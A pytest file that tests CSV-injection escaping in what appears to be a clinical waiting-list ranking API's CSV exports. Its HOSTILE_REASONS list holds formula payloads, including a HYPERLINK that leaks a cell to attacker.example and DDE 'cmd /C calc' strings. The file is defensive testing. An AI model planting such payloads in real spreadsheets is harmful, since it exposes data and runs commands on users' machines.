"""CSV injection: cells a spreadsheet would run as a formula are served as text (OWASP)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from app.csv_safe import FORMULA_STARTS, SafeCsvWriter, SafeDictWriter, safe_cell
from tests.api.ptl_files import demo_csv
from tests.app.rankings.helpers import csv_records, to_csv, upload

RANKED = "/api/v1/ptl/ranked"
HOSTILE_REASONS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]
HOSTILE_PATHWAYS = ["-2-3", "-CMD-A0", "-x/1"]


@pytest.mark.parametrize("value", HOSTILE_REASONS)
def test_a_formula_leading_text_cell_gets_a_quote(value):
    assert safe_cell(value) == "'" + value
    assert value[0] in FORMULA_STARTS


def test_numbers_and_harmless_text_are_left_as_they_are():
    for value in (-7.0, -3, 0, 12.5, "P2", "RZZ000000123", "", "a=b", None):
        assert safe_cell(value) == value


def test_the_writers_quote_cells_that_hold_separators():
    buffer = io.StringIO()
    SafeCsvWriter(buffer, lineterminator="\n").writerow(['=1+1,"x"', -2, "ok"])
    assert buffer.getvalue() == '"\'=1+1,""x""",-2,ok\n'
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, ["a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": "@x", "b": None})
    assert buffer.getvalue() == "a,b\n'@x,\n"
    with pytest.raises(ValueError):
        writer.writerow({"c": 1})


@pytest.fixture
def hostile(client, auth):
    """An upload whose pathway ids start with '-', and overrides with hostile reasons."""
    records = csv_records(demo_csv(60, seed=41))
    for record, pathway in zip(records, HOSTILE_PATHWAYS, strict=False):
        record["pathway_id"] = pathway
    upload(client, auth, to_csv(records))
    open_ids = [
        item["pathway_id"]
        for item in client.get(RANKED, params={"limit": 1000}, headers=auth("admin")).json()[
            "items"
        ]
        if not item["parked"]
    ]
    expires = (datetime.now(UTC) + timedelta(days=30)).isoformat()
    reasons = {}
    for pathway, reason in zip(open_ids, HOSTILE_REASONS, strict=False):
        response = client.post(
            f"/api/v1/ptl/entries/{pathway}/overrides",
            params={"provider": "RZZ", "rerank": "false"},
            json={"kind": "adjust_uplift", "days": 3, "reason": reason, "expires_at": expires},
            headers=auth("clinician"),
        )
        assert response.status_code == 201, response.text
        reasons[pathway] = response.json()["reason"]  # as stored (trimmed)
    rerun = client.post("/api/v1/rankings", json={"provider": "RZZ"}, headers=auth("admin"))
    assert rerun.status_code == 201, rerun.text
    return client, reasons


def test_the_ranked_csv_serves_hostile_reasons_and_pathway_ids_as_text(hostile, auth):
    client, reasons = hostile
    response = client.get(
        RANKED, params={"format": "csv", "include_parked": "true"}, headers=auth("scheduler")
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    by_pathway = {row["pathway_id"]: row for row in rows}
    for pathway in HOSTILE_PATHWAYS:
        assert "'" + pathway in by_pathway, pathway
    served_reasons = {row["pathway_id"]: row["override_reason"] for row in rows}
    for pathway, reason in reasons.items():
        shown = pathway if pathway[0] not in FORMULA_STARTS else "'" + pathway
        assert served_reasons[shown] == "'" + reason
    for row in rows:
        for name, cell in row.items():
            assert not cell or cell[0] not in FORMULA_STARTS or _is_number(cell), (name, cell)
    json_items = client.get(RANKED, params={"limit": 1000}, headers=auth("scheduler")).json()
    assert {i["pathway_id"] for i in json_items["items"]} >= set(HOSTILE_PATHWAYS)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_report_csvs_go_through_the_same_writer(client, auth):
    records = csv_records(demo_csv(60, seed=42))
    records[0]["site_code"] = ""
    upload(client, auth, to_csv(records))
    for path in ("/api/v1/reports/equity", "/api/v1/reports/data-quality"):
        response = client.get(
            path, params={"provider": "RZZ", "format": "csv"}, headers=auth("auditor")
        )
        assert response.status_code == 200, response.text
        for row in csv.reader(io.StringIO(response.text)):
            for cell in row:
                assert not cell or cell[0] not in FORMULA_STARTS or _is_number(cell), cell
